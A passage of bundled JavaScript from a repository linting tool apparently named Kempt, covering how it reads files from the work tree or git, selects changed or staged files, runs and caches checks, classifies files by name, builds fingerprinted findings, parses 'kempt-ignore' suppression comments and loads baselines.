    EINVAL: 'not-a-file',
};
/** A slab that has to grow for a large file grows in steps of this many bytes. */
const firstSlab = 256 * 1024;
/** The files under `top` as they are on disk. Contents above `limit` bytes are not read. */
class WorkTree {
    entries;
    #top;
    #limit;
    #slab = Buffer.allocUnsafeSlow(firstSlab);
    constructor(top, entries, limit) {
        this.#top = top;
        this.entries = entries;
        this.#limit = limit;
    }
    async visit(entries, visitor) {
        let count = 0;
        for (const entry of entries) {
            // Lets timers and signals have their turn.
            if ((++count & 0x3ff) === 0)
                await new Promise(setImmediate);
            const wait = this.read(entry, visitor);
            if (wait)
                await wait;
        }
    }
    exists(path) {
        return (0,external_node_fs_.statSync)(`${this.#top}/${path}`, { throwIfNoEntry: false }) !== undefined;
    }
    /** Shows one file: one open, one read, one close. */
    read(entry, visitor) {
        const path = this.#pathOf(entry);
        let length;
        try {
            if (entry.mode === domain_entry/* Mode */.K.symlink) {
                const target = (0,external_node_fs_.readlinkSync)(path, 'buffer');
                return visitor.file(entry, target, target.length);
            }
            length = this.#readRegular(path, entry);
        }
        catch (error) {
            if (!(0,types_.isNativeError)(error) || !('code' in error))
                throw error;
            visitor.problem(entry, problems[String(error.code)] ?? 'unreadable', error.message);
            return undefined;
        }
        if (length >= 0)
            return visitor.file(entry, this.#slab, length);
        visitor.problem(entry, 'too-large', `${entry.size} bytes`);
        return undefined;
    }
    /** Reads into the slab; returns -1 if there is too much. */
    #readRegular(path, entry) {
        const fd = (0,external_node_fs_.openSync)(path, flags);
        let length = 0;
        try {
            length = (0,external_node_fs_.readSync)(fd, this.#slab, 0, this.#slab.length, null);
            if (length === this.#slab.length)
                length = this.#readLarge(fd, entry);
        }
        finally {
            (0,external_node_fs_.closeSync)(fd);
        }
        if (length >= 0)
            entry.size = length;
        return length;
    }
    /** The slab is full: there may be more. */
    #readLarge(fd, entry) {
        const { size } = (0,external_node_fs_.fstatSync)(fd);
        entry.size = size;
        if (size > this.#limit)
            return -1;
        if (size >= this.#slab.length)
            this.#slab = Buffer.allocUnsafeSlow(size + firstSlab);
        let length = 0;
        for (;;) {
            const read = (0,external_node_fs_.readSync)(fd, this.#slab, length, this.#slab.length - length, length);
            length += read;
            if (read === 0 || length === this.#slab.length)
                return length;
        }
    }
    #pathOf(entry) {
        const path = `${this.#top}/${entry.path}`;
        return entry.raw === undefined ? path : Buffer.concat([Buffer.from(`${this.#top}/`), entry.raw]);
    }
}

;// CONCATENATED MODULE: ./lib/app/scope.js











/** Where the repository is, and where its configuration is looked for. */
function locate(request) {
    const stat = (0,external_node_fs_.statSync)(request.cwd, { throwIfNoEntry: false });
    if (!stat?.isDirectory())
        throw new errors/* UserError */.y(`There is no directory ${request.cwd}`, 'Check the path behind --cwd.');
    const repository = findRepository(request.cwd, request.gitDir);
    return { repository, top: repository?.top ?? (0,external_node_path_.resolve)(request.cwd) };
}
/** Lists what is to be looked at. */
async function openScope(request, { repository, top }, settings) {
    const wanted = changeOf(request);
    if (repository === undefined) {
        if (wanted)
            throw new errors/* UserError */.y(`${request.cwd} is in no git repository`, 'Without --changed, --staged, --base and --head the directory itself is checked.');
        return await openFolder(request, top, settings);
    }
    if (wanted === undefined)
        return await openAll(request, repository, top, settings);
    const change = await loadChangeSet(repository, wanted, settings.patch);
    const subjects = settings.subjects && change.head !== undefined ? await loadSubjects(repository, change.base, change.head) : [];
    return await openChange(request, repository, top, settings, { ...change, subjects }, wanted);
}
function changeOf({ base, head, changed, staged }) {
    const given = [base !== undefined || head !== undefined, changed !== undefined, staged === true].filter(Boolean);
    if (given.length > 1)
        throw new errors/* UserError */.y('--base/--head, --changed and --staged exclude each other');
    if (staged)
        return { kind: 'staged' };
    if (changed !== undefined)
        return { kind: 'work-tree', ref: changed === '' ? undefined : changed };
    if (base !== undefined)
        return { kind: 'commits', base, head: head ?? 'HEAD' };
    return undefined;
}
async function openFolder(request, top, settings) {
    const { listFolder } = await __webpack_require__.e(/* import() */ 776).then(__webpack_require__.bind(__webpack_require__, 1776));
    return finish('paths', request, undefined, top, settings, listFolder(top), (entries) => new WorkTree(top, entries, settings.maxSize));
}
async function openAll(request, repository, top, settings) {
    const kind = request.paths.length > 0 ? 'paths' : 'all';
    if (repository.top === undefined || request.head !== undefined) {
        const entries = await listCommit(repository, request.head ?? 'HEAD');
        return finish(kind, request, repository, top, settings, entries, (all) => new GitTree(repository, all, settings.maxSize));
    }
    const index = (0,index_file/* readIndex */.vY)(repository);
    const entries = index?.entries ?? (0,index_file/* parseLsFiles */.Ev)(await (0,git/* git */.$Y)(repository, ['ls-files', '-s', '-z']));
    const untracked = untrackedPaths(request, top, entries);
    const all = untracked.length === 0 ? entries : [...entries, ...untracked];
    const scope = finish(kind, request, repository, top, settings, all, (own) => new WorkTree(top, own, settings.maxSize));
    return { ...scope, index, sparse: index?.sparse ?? 0 };
}
/** A file that is named is looked at even if it is not tracked. */
function untrackedPaths({ cwd, paths }, top, entries) {
    if (paths.length === 0)
        return [];
    const tracked = new Set(entries.map((entry) => entry.path));
    return paths.flatMap((path) => {
        const inside = toInside(cwd, top, path);
        const stat = (0,external_node_fs_.statSync)((0,external_node_path_.resolve)(cwd, path), { throwIfNoEntry: false });
        if (stat === undefined)
            throw new errors/* UserError */.y(`There is no file ${path}`);
        if (!stat.isFile() || tracked.has(inside))
            return [];
        return [{ path: inside, mode: stat.mode & 0o100 ? domain_entry/* Mode */.K.executable : domain_entry/* Mode */.K.file, size: stat.size }];
    });
}
async function listCommit(repository, rev) {
    const { parseLsTree, treeArgs } = await __webpack_require__.e(/* import() */ 368).then(__webpack_require__.bind(__webpack_require__, 2368));
    return parseLsTree(await (0,git/* git */.$Y)(repository, treeArgs(rev)));
}
async function openChange(request, repository, top, settings, change, { kind }) {
    const candidates = change.files.flatMap((file) => (file.head ? [file.head] : []));
    const whole = needsWholeTree(change) ? await listWhole(repository, change) : undefined;
    const open = (entries) => {
        const disk = new WorkTree(top, entries, settings.maxSize);
        if (kind === 'work-tree')
            return disk;
        const objects = new GitTree(repository, whole ?? entries, settings.maxSize);
        return repository.top === undefined ? objects : new VerifiedTree(disk, objects);
    };
    const scope = finish(kind === 'staged' ? 'staged' : 'changed', request, repository, top, settings, candidates, open);
    return {
        ...scope,
        tree: { ...scope.tree, entries: whole ?? scope.tree.entries },
        change,
        base: (entries) => new GitTree(repository, entries, settings.maxSize),
    };
}
/** Names clash and links break only with others: then the tree as a whole matters. */
function needsWholeTree(change) {
    return change.files.some((file) => file.status !== 'modified' || file.head?.mode === domain_entry/* Mode */.K.symlink || /(?:^|\/)\.git/.test(file.path));
}
async function listWhole(repository, change) {
    if (change.head !== undefined)
        return await listCommit(repository, change.head);
    return (0,index_file/* readIndex */.vY)(repository)?.entries ?? (0,index_file/* parseLsFiles */.Ev)(await (0,git/* git */.$Y)(repository, ['ls-files', '-s', '-z']));
}
function finish(kind, request, repository, top, settings, entries, open) {
    const named = toPathFilter(request, top);
    const inside = named ? entries.filter((entry) => named(entry.path)) : entries;
    const candidates = settings.includes ? inside.filter((entry) => settings.includes?.(entry.path)) : inside;
    return {
        kind,
        repository,
        top,
        tree: {
            snapshot: open(entries),
            entries,
            candidates,
            submoduleHead: (entry) => (repository?.top === undefined ? undefined : submoduleHead(repository.top, entry)),
            ignoredTracked: async () => (repository?.top === undefined ? [] : await ignoredTracked(repository)),
        },
        files: candidates.filter(domain_entry/* isRegular */.$),
        sparse: 0,
        excluded: inside.length - candidates.length,
    };
}
function toPathFilter({ cwd, paths }, top) {
    const inside = paths.map((path) => toInside(cwd, top, path));
    if (inside.length === 0 || inside.includes(''))
        return undefined;
    return (path) => inside.some((one) => path === one || path.startsWith(`${one}/`));
}
function toInside(cwd, top, path) {
    const inside = (0,external_node_path_.relative)(top, (0,external_node_path_.resolve)(cwd, path)).split(external_node_path_.sep).join('/');
    if (inside === '..' || inside.startsWith('../'))
        throw new errors/* UserError */.y(`${path} is outside of the repository ${top}`);
    return inside;
}
function submoduleHead(top, { path }) {
    try {
        const found = findRepository((0,external_node_path_.join)(top, path));
        if (found?.top !== (0,external_node_path_.join)(top, path))
            return undefined;
        const head = (0,external_node_fs_.readFileSync)((0,external_node_path_.join)(found.gitDir, 'HEAD'), 'latin1').trim();
        const name = /^ref: (.+)$/.exec(head)?.[1];
        return name === undefined ? head : (0,external_node_fs_.readFileSync)((0,external_node_path_.join)(found.commonDir, name), 'latin1').trim();
    }
    catch {
        // Not initialised, or its branch has no commit yet: then nothing can differ.
        return undefined;
    }
}
async function ignoredTracked(repository) {
    const output = await (0,git/* git */.$Y)(repository, ['ls-files', '-c', '-i', '--exclude-per-directory=.gitignore', '-z']);
    return output.toString('utf8').split('\0').filter(Boolean);
}

;// CONCATENATED MODULE: ./lib/app/check.js











/** From the request to the report. Throws `UserError` and `UpstreamError`. */
async function check(request) {
    const clock = new Clock();
    const place = locate(request);
    const config = await loadConfig(place.top, request.config, checks);
    const settings = await toSettings(config, request, checks);
    const cache = mayCache(request, settings) && place.repository?.top ? await __webpack_require__.e(/* import() */ 823).then(__webpack_require__.bind(__webpack_require__, 7823)) : undefined;
    const dirty = cache && place.repository && cache.startDirtyFiles(place.repository);
    // Awaited where it is needed; a failure before that must not end the process.
    dirty?.catch(() => undefined);
    const scope = await openScope(request, place, {
        ...settings,
        patch: settings.checks.some((one) => one.check.scope === 'change'),
        subjects: settings.checks.some((one) => one.check.id === 'commit-subject'),
    });
    const part = scope.change && { head: scope.change.head };
    const inputs = await readInputs((0,selection/* ofScope */.W)(settings.checks, 'file'), scope.tree.snapshot, part ? scope.files : scope.tree.entries, part);
    clock.lap('list');
    const decides = { settings: [version_gen/* version */.r, config, request.only, request.skip, settings.everything], inputs };
    const known = cache && dirty && place.repository && scope.index
        ? await cache.findClean(place.repository, scope.index, scope.files, decides, dirty)
        : undefined;
    const files = known?.toScan ?? scope.files;
    const outcome = await runChecks({
        checks: settings.checks,
        tree: scope.tree,
        inputs,
        files,
        change: scope.change,
        base: settings.onlyNew ? scope.base : undefined,
        baseline: settings.baseline === undefined || request.ignoreBaseline ? undefined : (0,baseline_file/* loadBaseline */.o)(scope.top, settings.baseline),
        scan: {
            everything: settings.everything,
            progress: request.progress && ((done) => request.progress?.(done, files.length)),
            clean: known?.remember,
        },
    });
    await known?.save();
    clock.lap('check');
    const history = request.history ? await (await __webpack_require__.e(/* import() */ 330).then(__webpack_require__.bind(__webpack_require__, 5330))).searchHistory(scope, settings) : undefined;
    if (history)
        clock.lap('history');
    const total = known ? withClean(outcome, known, settings) : outcome;
    return { report: toReport(scope, settings, total, history, clock.finish()), scope, settings };
}
/** The cache is for the work tree as a whole or in part: a change is small, and objects have no stat data. */
function mayCache(request, settings) {
    return settings.cache && !request.staged && [request.changed, request.base, request.head, request.gitDir].every((one) => one === undefined);
}
/** What the cache knows to be clean counts as if it had been scanned. */
function withClean(outcome, { clean }, settings) {
    let bytes = 0;
    for (const entry of clean)
        bytes += entry.size ?? 0;
    const passedOver = (0,scan/* countPassedOver */.S)((0,selection/* ofScope */.W)(settings.checks, 'file'), clean, settings.everything);
    return {
        ...outcome,
        files: outcome.files + clean.length,
        bytes: outcome.bytes + bytes,
        passedOver: {
            generated: outcome.passedOver.generated + passedOver.generated,
            vendored: outcome.passedOver.vendored + passedOver.vendored,
            fixture: outcome.passedOver.fixture + passedOver.fixture,
        },
    };
}
/** Milliseconds by phase, rounded to a tenth. */
class Clock {
    #started = performance.now();
    #laps = {};
    #last = this.#started;
    lap(phase) {
        const now = performance.now();
        this.#laps[phase] = Math.round((now - this.#last) * 10) / 10;
        this.#last = now;
    }
    finish() {
        return { ...this.#laps, total: Math.round((performance.now() - this.#started) * 10) / 10 };
    }
}


/***/ }),

/***/ 5661:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Y: () => (/* binding */ printReport),
  M: () => (/* binding */ reporterIds)
});

;// CONCATENATED MODULE: ./lib/modules/reporters/index.gen.js
// Generated by `npm run generate` from the files of this folder. Do not edit.
/** Every reporter by its id, loaded when it is asked for. */
const reporters = {
    checkstyle: () => __webpack_require__.e(/* import() */ 963).then(__webpack_require__.bind(__webpack_require__, 1963)).then((m) => m.checkstyle),
    codequality: () => __webpack_require__.e(/* import() */ 698).then(__webpack_require__.bind(__webpack_require__, 8698)).then((m) => m.codequality),
    github: () => __webpack_require__.e(/* import() */ 697).then(__webpack_require__.bind(__webpack_require__, 8697)).then((m) => m.github),
    json: () => __webpack_require__.e(/* import() */ 612).then(__webpack_require__.bind(__webpack_require__, 9612)).then((m) => m.json),
    junit: () => __webpack_require__.e(/* import() */ 800).then(__webpack_require__.bind(__webpack_require__, 6800)).then((m) => m.junit),
    markdown: () => __webpack_require__.e(/* import() */ 790).then(__webpack_require__.bind(__webpack_require__, 3790)).then((m) => m.markdown),
    pretty: () => __webpack_require__.e(/* import() */ 504).then(__webpack_require__.bind(__webpack_require__, 3504)).then((m) => m.pretty),
    rdjson: () => __webpack_require__.e(/* import() */ 726).then(__webpack_require__.bind(__webpack_require__, 7726)).then((m) => m.rdjson),
    sarif: () => __webpack_require__.e(/* import() */ 649).then(__webpack_require__.bind(__webpack_require__, 3649)).then((m) => m.sarif),
    summary: () => __webpack_require__.e(/* import() */ 56).then(__webpack_require__.bind(__webpack_require__, 1056)).then((m) => m.summary),
};
const reporterSummaries = {
    checkstyle: 'Checkstyle XML, for Jenkins and other tools that know it',
    codequality: "GitLab's Code Quality report, for `artifacts:reports:codequality`",
    github: "GitHub's workflow commands: annotations of a pull request's files, without a token",
    json: 'The report itself, for programs and for later stages of Kempt',
    junit: 'JUnit XML, for the test views of Jenkins, GitLab, CircleCI and Azure',
    markdown: 'Markdown for a comment on a pull request, at most 65,536 characters',
    pretty: 'Text for people, in a terminal or a log',
    rdjson: "reviewdog's diagnostic format, with the fixes as suggestions",
    sarif: 'SARIF 2.1.0, for code scanning and editors',
    summary: "Markdown for GitHub's job summary, at most 1 MiB",
};

;// CONCATENATED MODULE: ./lib/app/print.js

const reporterIds = Object.keys(reporters);
/** Prints the report in the format `id`, one of {@link reporterIds}; its reporter is loaded now. */
async function printReport(id, report, style) {
    const reporter = await reporters[id]();
    return reporter.print(report, style);
}


/***/ }),

/***/ 5676:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $: () => (/* binding */ isRegular),
/* harmony export */   K: () => (/* binding */ Mode)
/* harmony export */ });
/** Modes of tree entries, as git stores them. */
const Mode = { file: 0o100644, executable: 0o100755, symlink: 0o120000, submodule: 0o160000 };
/** Whether its content is a file's content: neither a symbolic link nor a submodule. */
function isRegular(entry) {
    return entry.mode === Mode.file || entry.mode === Mode.executable;
}


/***/ }),

/***/ 5503:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   a: () => (/* binding */ firstKeywordFact),
/* harmony export */   d: () => (/* binding */ Fact)
/* harmony export */ });
/**
 * What one look at a file's bytes establishes, as a bit mask. A check that names facts is called only for files
 * that have one of them, so that a clean file costs one pass and no call.
 */
const Fact = {
    /** A blank (space or tab) before a line end or the end of the file. */
    trailingBlank: 1 << 0,
    /** At least one CR LF. */
    crlf: 1 << 1,
    /** At least one LF that no CR precedes. */
    lf: 1 << 2,
    /** At least one CR that no LF follows. */
    cr: 1 << 3,
    /** A byte above 0x7F. */
    nonAscii: 1 << 4,
    /** A line that begins with seven of `<`, `=`, `>` or `|`. */
    conflict: 1 << 5,
    /** Not empty, and the last byte is no line end. */
    noFinalNewline: 1 << 6,
    /** The file ends with more than one line end, or consists of line ends only. */
    extraFinalNewline: 1 << 7,
    /** Begins with the UTF-8 byte-order mark. */
    byteOrderMark: 1 << 8,
    /** Begins with `#!`. */
    shebang: 1 << 9,
    /** The mode has the executable bit. */
    executable: 1 << 10,
    /** A line that begins with a tab. */
    tabIndent: 1 << 11,
    /** A line that begins with a space. */
    spaceIndent: 1 << 12,
    /** Zero bytes long. */
    empty: 1 << 13,
};
/** The bits from here on say which check's keywords a file contains; a scan hands them out. */
const firstKeywordFact = 1 << 16;


/***/ }),

/***/ 7889:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ko: () => (/* binding */ fileTypes),
/* harmony export */   pt: () => (/* binding */ FileType),
/* harmony export */   rV: () => (/* binding */ unkempt)
/* harmony export */ });
/** What a file is, as far as its name tells, as a bit mask: what a check names in `types`. */
const FileType = {
    json: 1 << 0,
    /** JSON that its ecosystem reads with comments and trailing commas. */
    jsonc: 1 << 1,
    yaml: 1 << 2,
    toml: 1 << 3,
    xml: 1 << 4,
    notebook: 1 << 5,
    editorconfig: 1 << 6,
    markdown: 1 << 7,
    patch: 1 << 8,
    /** A GitHub workflow, or the `action.yml` of an action. */
    workflow: 1 << 9,
    /** Known to be generated for machines: a lock file, a snapshot, a minified bundle. */
    generated: 1 << 10,
    /** In a folder of other people's code, such as `vendor/` or `node_modules/`. */
    vendored: 1 << 11,
    /** In a folder of test data, whose files are often as they are on purpose. */
    fixture: 1 << 12,
};
/** Classes of files that most checks of text leave alone: nobody mends them by hand. */
const unkempt = FileType.generated | FileType.vendored | FileType.fixture;
const vendoredFolder = /(?:^|\/)(?:node_modules|bower_components|vendor(?:ed)?|third[_-]?party|\.yarn|external[_-]?libs?)\//i;
const fixtureFolder = /(?:^|\/)(?:[\w.-]*fixtures?|test[_-]?data|test[_-]?files|__snapshots__|snapshots|golden(?:s|[_-]?files)?|corpus|testcases)\//i;
let lastFolder = '';
let lastClass = 0;
/** Consecutive files mostly share their folder, so that its class is worked out once for all of them. */
function folderClass(path) {
    const folder = path.slice(0, path.lastIndexOf('/') + 1);
    if (folder !== lastFolder) {
        lastFolder = folder;
        lastClass =
            (vendoredFolder.test(folder) ? FileType.vendored : 0) | (fixtureFolder.test(folder) ? FileType.fixture : 0);
    }
    return lastClass;
}
const { json, jsonc, yaml, toml, xml, notebook, editorconfig, markdown, patch, generated } = FileType;
const byExtension = new Map([
    ['json', json],
    ['jsonc', jsonc],
    ['json5', 0],
    ['code-workspace', jsonc],
    ['webmanifest', json],
    ['geojson', json],
    ['topojson', json],
    ['jsonld', json],
    ['har', json],
    ['sarif', json],
    ['yaml', yaml],
    ['yml', yaml],
    ['toml', toml],
    ['xml', xml],
    ['svg', xml],
    ['xsd', xml],
    ['xsl', xml],
    ['xslt', xml],
    ['rng', xml],
    ['wsdl', xml],
    ['plist', xml],
    ['csproj', xml],
    ['vbproj', xml],
    ['fsproj', xml],
    ['vcxproj', xml],
    ['props', xml],
    ['targets', xml],
    ['nuspec', xml],
    ['resx', xml],
    ['xaml', xml],
    ['pom', xml],
    ['ipynb', notebook],
    ['md', markdown],
    ['markdown', markdown],
    ['mdx', markdown],
    ['patch', patch],
    ['diff', patch],
    ['rej', patch],
    ['snap', generated],
    ['map', json | generated],
    ['lock', generated],
]);
const byName = new Map([
    ['.editorconfig', editorconfig],
    ['.clang-format', yaml],
    ['.clang-tidy', yaml],
    ['.gemrc', yaml],
    ['citation.cff', yaml],
    ['.prettierrc', 0],
    ['.babelrc', jsonc],
    ['.jshintrc', jsonc],
    ['.jscsrc', jsonc],
    ['.eslintrc.json', jsonc],
    ['.swcrc', jsonc],
    ['.hintrc', jsonc],
    ['.devcontainer.json', jsonc],
    ['devcontainer.json', jsonc],
    ['tslint.json', jsonc],
    ['api-extractor.json', jsonc],
    ['turbo.json', jsonc],
    ['biome.json', jsonc],
    ['deno.json', jsonc],
    ['bun.lock', jsonc | generated],
    ['composer.lock', json | generated],
    ['flake.lock', json | generated],
    ['package-lock.json', json | generated],
    ['npm-shrinkwrap.json', json | generated],
    ['pipfile.lock', json | generated],
    ['pnpm-lock.yaml', yaml | generated],
    ['cargo.lock', toml | generated],
    ['poetry.lock', toml | generated],
    ['uv.lock', toml | generated],
    ['pdm.lock', toml | generated],
    ['pipfile', toml],
    ['go.sum', generated],
]);
const commentedConfig = /^(?:tsconfig|jsconfig)(?:[.-][^/]*)?\.json$/;
const commentedFolder = /(?:^|\/)\.(?:vscode|devcontainer)\/[^/]*\.json$/;
const workflowPath = /^(?:\.github\/workflows\/[^/]+|(?:.*\/)?action)\.ya?ml$/;
const minified = /[.-]min\.(?:js|mjs|cjs|css)$/;
/** The types of the file at `path` (`/`-separated), by name alone; 0 if nothing is known. */
function fileTypes(path) {
    return nameTypes(path) | folderClass(path);
}
function nameTypes(path) {
    const name = path.slice(path.lastIndexOf('/') + 1).toLowerCase();
    const named = byName.get(name);
    if (named !== undefined)
        return named;
    const types = byExtension.get(name.slice(name.lastIndexOf('.') + 1)) ?? 0;
    if (types === json && (commentedConfig.test(name) || commentedFolder.test(path)))
        return jsonc;
    if (types === yaml && workflowPath.test(path))
        return yaml | FileType.workflow;
    if (types === 0 && minified.test(name))
        return generated;
    return types;
}


/***/ }),

/***/ 9813:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   U: () => (/* binding */ buildFinding),
/* harmony export */   b: () => (/* binding */ numberSiblings)
/* harmony export */ });
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(7598);

const snippetLimit = 240;
/**
 * The only way a finding comes into being. Throws if it has no rule, no message or no primary location, or if its edits
 * overlap: such a finding could not be placed, identified or applied.
 */
function buildFinding(parts) {
    const { rule, level, message, path, region, commit, fix } = parts;
    if (rule === '' || message === '')
        throw new Error(`A finding needs a rule and a message: ${JSON.stringify(parts)}`);
    if (path === '')
        throw new Error(`A finding needs a primary location: ${rule}`);
    if (fix && !ascends(fix.edits))
        throw new Error(`The edits of a fix must ascend and not overlap: ${rule} in ${path}`);
    const snippet = parts.snippet ?? (region ? firstLine(parts.subject) : undefined);
    return {
        rule,
        level,
        message,
        location: { path, ...(region && { region }), ...(commit && { commit }) },
        ...(snippet !== undefined && { snippet: snippet.slice(0, snippetLimit) }),
        ...(fix && { fix }),
        fingerprint: contentHash(rule, parts.subject),
    };
}
function ascends(edits) {
    let end = 0;
    return edits.every(({ region }) => {
        const ok = region.byteOffset >= end;
        end = region.byteOffset + region.byteLength;
        return ok;
    });
}
function firstLine(text) {
    return text.slice(0, text.search(/[\r\n]|$/));
}
/** 64 bits over the rule and the subject without its white space, so that reformatting a line keeps its identity. */
function contentHash(rule, subject) {
    const normal = subject.replace(/\s+/g, '');
    return (0,node_crypto__WEBPACK_IMPORTED_MODULE_0__.createHash)('sha256').update(`${rule}\0${normal}`).digest('hex').slice(0, 16);
}
/**
 * Tells findings of equal content in one file apart by their order: `hash`, `hash:2`, `hash:3`. Lines may move and the
 * file may be renamed without a change of any fingerprint.
 */
function numberSiblings(findings) {
    const seen = new Map();
    return findings.map((finding) => {
        const key = `${finding.location.path}\0${finding.location.commit ?? ''}\0${finding.fingerprint}`;
        const ordinal = (seen.get(key) ?? 0) + 1;
        seen.set(key, ordinal);
        return ordinal === 1 ? finding : { ...finding, fingerprint: `${finding.fingerprint}:${ordinal}` };
    });
}


/***/ }),

/***/ 3192:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   O5: () => (/* binding */ byRank),
/* harmony export */   Uo: () => (/* binding */ byPathAndLine),
/* harmony export */   n6: () => (/* binding */ compareText)
/* harmony export */ });
/* harmony import */ var _level_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1810);

/** The order of lists that are grouped by file: path, line, column, then worst first. Findings of a file as a whole lead. */
function byPathAndLine(a, b) {
    return byPlace(a, b) || byLevel(a, b) || byWords(a, b);
}
/** The order in which findings get a place where there are not places enough: worst first, then by path and line. */
function byRank(a, b) {
    return byLevel(a, b) || byPlace(a, b) || byWords(a, b);
}
function byLevel(a, b) {
    return _level_js__WEBPACK_IMPORTED_MODULE_0__/* .levels */ .y.indexOf(a.level) - _level_js__WEBPACK_IMPORTED_MODULE_0__/* .levels */ .y.indexOf(b.level);
}
function byPlace(a, b) {
    const [from, to] = [a.location.region, b.location.region];
    return (compareText(a.location.path, b.location.path) ||
        (from?.startLine ?? 0) - (to?.startLine ?? 0) ||
        (from?.startColumn ?? 0) - (to?.startColumn ?? 0));
}
function byWords(a, b) {
    return compareText(a.rule, b.rule) || compareText(a.message, b.message);
}
/** By UTF-16 code units: the same on every machine, whatever its locale. */
function compareText(a, b) {
    return a < b ? -1 : a > b ? 1 : 0;
}


/***/ }),

/***/ 7061:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   BB: () => (/* binding */ dirName),
/* harmony export */   Fl: () => (/* binding */ baseName),
/* harmony export */   q0: () => (/* binding */ decodePath)
/* harmony export */ });
/**
 * A path of bytes as text: UTF-8 where it is that, else quoted as git quotes (`core.quotePath`), so that no two paths
 * look the same and every output stays valid Unicode.
 */
function decodePath(bytes) {
    const path = bytes.toString('utf8');
    if (!path.includes('\uFFFD') || Buffer.from(path, 'utf8').equals(bytes))
        return { path };
    return { path: quoteBytes(bytes), raw: Buffer.from(bytes) };
}
function quoteBytes(bytes) {
    let quoted = '"';
    for (const byte of bytes) {
        if (byte === 0x22 || byte === 0x5c)
            quoted += `\\${String.fromCharCode(byte)}`;
        else if (byte < 0x20 || byte > 0x7e)
            quoted += `\\${byte.toString(8).padStart(3, '0')}`;
        else
            quoted += String.fromCharCode(byte);
    }
    return `${quoted}"`;
}
/** The last part of a path. */
function baseName(path) {
    return path.slice(path.lastIndexOf('/') + 1);
}
/** All but the last part of a path; empty at the top. */
function dirName(path) {
    return path.slice(0, Math.max(0, path.lastIndexOf('/')));
}


/***/ }),

/***/ 9448:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Q: () => (/* binding */ parseSuppressions),
/* harmony export */   h: () => (/* binding */ covers)
/* harmony export */ });
/** What begins a comment in front of the directive; in Markdown only an HTML comment does. */
const inCode = /(?:#|\/\/|\/\*|\*|<!--|--|;|%|'|\(\*|\{-)[ \t]*kempt-ignore(-file)?(?![\w-])[ \t]*([^\n]*)/;
const inMarkdown = /<!--[ \t]*kempt-ignore(-file)?(?![\w-])[ \t]*([^\n]*)/;
const commentEnd = /[ \t]*(?:\*\/|-->|\*\)|-\})?[ \t\r]*$/;
/**
 * Finds `kempt-ignore RULE[, RULE]: reason` (this line; alone on its line: the next one) and
 * `kempt-ignore-file RULE: reason` (the whole file) in comments.
 */
function parseSuppressions(text, markdown) {
    const pattern = markdown ? inMarkdown : inCode;
    const found = [];
    let start = 0;
    text.split('\n').forEach((content, line) => {
        const match = content.includes('kempt-ignore') ? pattern.exec(content) : null;
        if (match)
            found.push(toComment(match, content, line, start));
        start += content.length + 1;
    });
    return found;
}
function toComment(match, content, line, start) {
    const [whole, file, rest = ''] = match;
    const body = rest.replace(commentEnd, '');
    const colon = body.indexOf(':');
    const names = colon < 0 ? body : body.slice(0, colon);
    const rules = names.split(/[\s,]+/).filter((name) => /^[a-z][a-z0-9-]*(?:\/[a-z0-9-]+)?$/.test(name));
    const directive = whole.indexOf('kempt-ignore');
    const alone = content.slice(0, match.index).trim() === '';
    const next = alone ? line + 1 : line;
    return {
        rules,
        reason: colon < 0 ? '' : body.slice(colon + 1).trim(),
        ...(file === undefined && { lines: [line, next] }),
        at: { offset: start + match.index + directive, length: whole.length - directive - (rest.length - body.length) },
        line,
    };
}
/** Whether `comment` speaks of a finding of `rule` that begins on the 0-based `line` (undefined: the file as a whole). */
function covers(comment, rule, line) {
    const named = comment.rules.some((name) => name === rule || rule.startsWith(`${name}/`));
    if (!named || comment.lines === undefined)
        return named;
    return line !== undefined && line >= comment.lines[0] && line <= comment.lines[1];
}


/***/ }),

/***/ 7687:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   X: () => (/* binding */ saveBaseline),
/* harmony export */   o: () => (/* binding */ loadBaseline)
/* harmony export */ });
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3024);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6760);
/* harmony import */ var _domain_errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(9285);
/* harmony import */ var _write_file_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(1983);




/** Reads a baseline, relative to `top`. */
function loadBaseline(top, path) {
    const file = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(top, path);
    let text;
    try {
        text = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)(file, 'utf8');
    }
    catch (cause) {
        throw new _domain_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UserError */ .y(`The baseline ${path} cannot be read`, 'Write it: kempt check --update-baseline', { cause });
    }
    const parsed = parse(text);
    if (parsed === undefined)
        throw new _domain_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UserError */ .y(`${path} is no baseline`, 'Write it anew: kempt check --update-baseline');
    return parsed;
}
function parse(text) {
    try {
        const value = JSON.parse(text);
        const findings = isRecord(value) && value['version'] === 1 ? value['findings'] : undefined;
        return Array.isArray(findings) && findings.every(isEntry) ? { findings } : undefined;
    }
    catch {
        return undefined;
    }
}
